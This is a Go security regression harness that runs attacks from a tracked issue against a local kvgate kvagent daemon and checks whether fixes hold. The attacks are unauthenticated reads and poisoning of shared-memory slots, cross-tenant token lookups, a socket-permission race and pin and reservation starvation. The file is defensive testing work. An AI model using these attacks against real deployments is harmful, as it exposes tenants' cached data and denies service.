// Command attack15 replays the kvagent attacks of issue 15 against a real
// `kvgate kvagent` binary and prints what each achieved, one line per
// attack. It builds against the connector and transfer packages of the
// tree it sits in (the client APIs it uses exist before and after the
// fixes), so the same source measures both:
//
//	go build -o /tmp/kvgate ./cmd/kvgate && go run ./kvagent/testdata/attack15 -kvgate /tmp/kvgate
//
// It exits 1 when any attack achieved something (the line says BREACH),
// so it can gate a build. It lives under testdata so that `go build ./...` and `go vet ./...` skip
// it: a workshop tool, not part of the product. The regression tests are
// kvagent/attack_test.go.
package main

import (
	"bufio"
	"bytes"
	"context"
	"flag"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/kvgate/kvgate/kvagent/connector"
	pb "github.com/kvgate/kvgate/kvagent/connector/connectorpb"
	"github.com/kvgate/kvgate/kvagent/transfer"
	"github.com/kvgate/kvgate/lab/testkit/freeport"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
)

const (
	blockBytes = 8192
	hostBlocks = 64
)

// breaches counts the attacks that achieved something.
var breaches int

// report prints one attack's outcome, marking a breach.
func report(breach bool, format string, args ...any) {
	mark := "refused"
	if breach {
		mark = "BREACH"
		breaches++
	}
	fmt.Printf("[%s] "+format+"\n", append([]any{mark}, args...)...)
}

func main() {
	bin := flag.String("kvgate", "", "the kvgate binary")
	role := flag.String("role", "", "internal: reserve-attacker SOCKET")
	flag.Parse()
	if *role == "reserve-attacker" {
		os.Exit(reserveAttacker(flag.Arg(0)))
	}
	dir, err := os.MkdirTemp("", "attack15-")
	check(err)
	defer os.RemoveAll(dir)
	configRefusal(*bin, dir)
	socketMode(dir)

	// Each attack on a fresh daemon, so that none sees another's effects.
	for _, attack := range []func(context.Context, *victimNode){readWithoutAcquire, crossTenant, pinStarvation, reservationStarvation} {
		func() {
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			n := startVictim(ctx, *bin, dir)
			defer n.stop()
			attack(ctx, n)
		}()
	}
	if breaches > 0 {
		fmt.Printf("%d attacks achieved something\n", breaches)
		os.Exit(1)
	}
}

// victimNode is a running daemon (plaintext peer channels on loopback,
// as the tests and single-host setups run it) with one engine, tenant m,
// that offloaded a 4-block chain.
type victimNode struct {
	daemon   *exec.Cmd
	dir      string
	sock     string
	peerAddr string
	victim   *connector.Client
	chain    []uint64
	blocks   []connector.Block
}

var runs int

func startVictim(ctx context.Context, bin, dir string) *victimNode {
	runs++
	n := &victimNode{dir: filepath.Join(dir, fmt.Sprint(runs))}
	check(os.MkdirAll(n.dir, 0o700))
	n.sock, n.peerAddr = filepath.Join(n.dir, "k.sock"), freeAddr()
	cfg := filepath.Join(n.dir, "kvagent.yaml")
	check(os.WriteFile(cfg, []byte(fmt.Sprintf(`kvagent:
  name: victim
  socket: %s
  shm_path: %s
  block_bytes: %d
  host_blocks: %d
  admin: 127.0.0.1:0
  peer: {listen: %s, transfer_listen: %s, streams: 2}
`, n.sock, filepath.Join(n.dir, "arena"), blockBytes, hostBlocks, n.peerAddr, freeAddr())), 0o600))
	n.daemon = exec.Command(bin, "kvagent", "--config", cfg)
	n.daemon.Stderr = &bytes.Buffer{}
	check(n.daemon.Start())
	var err error
	n.victim, err = connector.Dial(ctx, n.sock, connector.Registration{Namespace: "m", BlockBytes: blockBytes})
	check(err)
	n.chain, n.blocks = makeChain(4, 100)
	check(n.victim.Offload(ctx, "m", n.blocks))
	return n
}

func (n *victimNode) stop() {
	n.victim.Close()
	n.daemon.Process.Kill()
	n.daemon.Wait()
}

func check(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack15:", err)
		os.Exit(1)
	}
}

func freeAddr() string {
	a, err := freeport.Addr()
	check(err)
	return a
}

func makeChain(n int, base uint64) ([]uint64, []connector.Block) {
	var hs []uint64
	var bs []connector.Block
	for i := range n {
		h := base + uint64(i)
		b := connector.Block{Hash: h, TokenIDs: []uint32{uint32(h), 1, 2, 3}, Data: bytes.Repeat([]byte(fmt.Sprintf("victim%010d", h)), blockBytes/16)}
		if i > 0 {
			b.Parent, b.HasParent = h-1, true
		}
		hs, bs = append(hs, h), append(bs, b)
	}
	return hs, bs
}

func peerClient(addr string) pb.ConnectorClient {
	conn, err := grpc.NewClient("passthrough:///"+addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	check(err)
	return pb.NewConnectorClient(conn)
}

// configRefusal: a peer listener on every interface without TLS.
func configRefusal(bin, dir string) {
	cfg := filepath.Join(dir, "open.yaml")
	check(os.WriteFile(cfg, []byte(fmt.Sprintf("kvagent:\n  socket: %s\n  shm_path: %s\n  block_bytes: 4096\n  host_blocks: 8\n  admin: 127.0.0.1:0\n  peer: {listen: 0.0.0.0:0, transfer_listen: 0.0.0.0:0}\n",
		filepath.Join(dir, "open.sock"), filepath.Join(dir, "open-arena"))), 0o600))
	cmd := exec.Command(bin, "kvagent", "--config", cfg)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	check(cmd.Start())
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		report(false, "plaintext peer listener on 0.0.0.0: refused at start (%v): %s", err, strings.TrimSpace(stderr.String()))
	case <-time.After(3 * time.Second):
		cmd.Process.Kill()
		<-done
		report(true, "plaintext peer listener on 0.0.0.0: ACCEPTED (serving after 3s)")
	}
}

// socketMode: with an empty umask, what modes the socket file shows
// while connector.ListenUnix creates it.
func socketMode(dir string) {
	old := syscall.Umask(0)
	defer syscall.Umask(old)
	path := filepath.Join(dir, "mode.sock")
	var mu sync.Mutex
	seen := map[os.FileMode]int{}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			if fi, err := os.Lstat(path); err == nil {
				mu.Lock()
				seen[fi.Mode().Perm()]++
				mu.Unlock()
			}
		}
	}()
	for range 2000 {
		l, err := connector.ListenUnix(path)
		check(err)
		l.Close()
	}
	close(stop)
	<-done
	wide := 0
	for m, n := range seen {
		if m&^0o660 != 0 {
			wide += n
		}
	}
	report(wide > 0, "socket modes observed during 2000 ListenUnix (umask 0): %v", seen)
}

// readWithoutAcquire: a client with no credentials reads every arena slot
// and writes into the victim's, without any Acquire of its own.
func readWithoutAcquire(ctx context.Context, n *victimNode) {
	victim, chain, blocks := n.victim, n.chain, n.blocks
	info, err := peerClient(n.peerAddr).PeerInfo(ctx, &pb.PeerInfoRequest{})
	check(err)
	x, err := transfer.NewTCP(transfer.TCPConfig{Name: "attacker", Streams: 1})
	check(err)
	defer x.Close()
	local := make([]byte, blockBytes)
	lh, err := x.RegisterMem(transfer.Region{Kind: transfer.DRAM, Addr: local})
	check(err)
	remote, err := x.LoadRemoteMetadata(info.GetTransferMetadata())
	check(err)
	move := func(op transfer.Op, slot int32) error {
		xf, err := x.CreateXfer(op, []transfer.Desc{{Region: lh, Len: blockBytes}}, remote, []transfer.Desc{{Region: info.GetRegion(), Offset: int64(slot) * blockBytes, Len: blockBytes}}, nil)
		check(err)
		defer x.Release(xf)
		check(x.Post(xf))
		return transfer.Wait(ctx, x, xf)
	}
	stolen, refused := 0, 0
	var why error
	for s := range int32(hostBlocks) {
		clear(local)
		if err := move(transfer.Read, s); err != nil {
			refused++
			why = err
			continue
		}
		for _, b := range blocks {
			if bytes.Equal(local, b.Data) {
				stolen++
			}
		}
	}
	report(stolen > 0 || refused < hostBlocks, "transfer reads without an Acquire: %d of %d slots refused, %d of the victim's %d blocks read (%v)", refused, hostBlocks, stolen, len(blocks), short(why))
	slots, err := victim.Acquire(ctx, "m", chain)
	check(err)
	check(victim.Release(ctx, slots))
	copy(local, bytes.Repeat([]byte("poison!!"), blockBytes/8))
	werr := move(transfer.Write, slots[0])
	dst := [][]byte{make([]byte, blockBytes)}
	_, err = victim.Onboard(ctx, "m", chain[:1], dst)
	check(err)
	poisoned := bytes.HasPrefix(dst[0], []byte("poison!!"))
	report(werr == nil || poisoned, "transfer write into the victim's slot: err %v; the victim's next onboard returns the attacker's bytes: %v", short(werr), poisoned)
}

// crossTenant: another tenant's engine asks for namespace m's token ids.
func crossTenant(ctx context.Context, n *victimNode) {
	sock, chain := n.sock, n.chain
	conn, err := grpc.NewClient("passthrough:///"+sock, grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "unix", sock)
		}))
	check(err)
	defer conn.Close()
	c := pb.NewConnectorClient(conn)
	_, err = c.Register(ctx, &pb.RegisterRequest{Namespace: "tenant-b"})
	check(err)
	r, err := c.Acquire(ctx, &pb.AcquireRequest{Namespace: "m", Chain: chain, WithMeta: true})
	tokens := 0
	for _, m := range r.GetMetas() {
		tokens += len(m.GetTokenIds())
	}
	if len(r.GetSlots()) > 0 {
		c.Release(ctx, &pb.ReleaseRequest{Slots: r.GetSlots()})
	}
	report(tokens > 0 || len(r.GetSlots()) > 0, "tenant-b's engine connection: Acquire(m, with_meta) → %d token ids of tenant m (err %v)", tokens, short(err))
	lr, err := c.Lookup(ctx, &pb.LookupRequest{Namespace: "m", Chain: chain})
	report(err == nil, "tenant-b's engine connection: Lookup(m) → %d blocks of tenant m's residency (err %v)", len(lr.GetTiers()), short(err))
}

// pinStarvation: peer connections acquire every resident block and never
// release; then the victim tries to offload.
func pinStarvation(ctx context.Context, n *victimNode) {
	peerAddr, victim := n.peerAddr, n.victim
	var fill []uint64
	for i := 0; i < hostBlocks; i += 8 {
		hs, bs := makeChain(8, uint64(1000+i))
		check(victim.Offload(ctx, "m", bs))
		fill = append(fill, hs...)
	}
	pinned, refused, acquires := 0, 0, 0
	var peers []pb.ConnectorClient
	for range 8 {
		peers = append(peers, peerClient(peerAddr))
	}
	for i := 0; i < 3200; i++ {
		acquires++
		p := peers[i%len(peers)]
		r, err := p.Acquire(ctx, &pb.AcquireRequest{Namespace: "m", Chain: fill[(i%8)*8 : (i%8)*8+8]})
		if err != nil {
			refused++
			continue
		}
		pinned += len(r.GetSlots())
	}
	_, bs := makeChain(8, 5000)
	err := victim.Offload(ctx, "m", bs)
	report(err != nil, "peer pin starvation: %d Acquires over 8 connections never released → %d pins held, %d refused; victim's offload of 8 blocks: err %v", acquires, pinned, refused, short(err))
}

// reservationStarvation: another process reserves over 8 connections and
// never commits; then the victim tries to offload.
func reservationStarvation(ctx context.Context, n *victimNode) {
	sock, victim := n.sock, n.victim
	self, err := os.Executable()
	check(err)
	cmd := exec.Command(self, "-role", "reserve-attacker", sock)
	out, err := cmd.StdoutPipe()
	check(err)
	in, err := cmd.StdinPipe()
	check(err)
	check(cmd.Start())
	line, _ := bufio.NewReader(out).ReadString('\n')
	_, bs := makeChain(4, 6000)
	verr := victim.Offload(ctx, "m", bs)
	report(verr != nil, "reservation starvation by another process: %s; victim's offload of 4 blocks: err %v", strings.TrimSpace(line), short(verr))
	in.Close()
	cmd.Wait()
}

func reserveAttacker(sock string) int {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	reserved, refused := 0, 0
	var conns []*connector.Client
	for i := range 8 {
		c, err := connector.Dial(ctx, sock, connector.Registration{Namespace: "m"})
		check(err)
		conns = append(conns, c)
		for j := range 16 {
			hs := make([]uint64, 8)
			for k := range hs {
				hs[k] = uint64(1<<40 + i*1000 + j*10 + k)
			}
			if _, err := c.Reserve(ctx, "m", hs); err != nil {
				refused++
				continue
			}
			reserved += 8
		}
	}
	fmt.Printf("%d slots reserved, %d Reserves refused\n", reserved, refused)
	os.Stdin.Read(make([]byte, 1))
	return 0
}

func short(err error) string {
	if err == nil {
		return "none"
	}
	s := err.Error()
	if len(s) > 150 {
		s = s[:150] + "…"
	}
	return s
}
